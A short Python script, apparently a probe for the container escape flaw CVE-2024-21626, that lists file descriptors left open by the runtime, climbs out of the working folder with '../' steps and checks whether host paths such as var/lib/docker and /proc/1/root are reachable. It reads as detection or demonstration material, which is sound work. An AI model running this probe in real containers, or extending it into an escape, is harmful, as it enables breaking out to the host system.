"""Descriptors or a working folder that the runtime left open (CVE-2024-21626)"""

import os

found = []
for fd in range(3, 1024):
    try:
        found.append(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        continue
print("descriptors:", found)
print("folder:", os.getcwd())
os.chdir("../../../../..")
print("above:", os.path.exists("var/lib/docker"), os.path.exists("proc/1/root/var"))
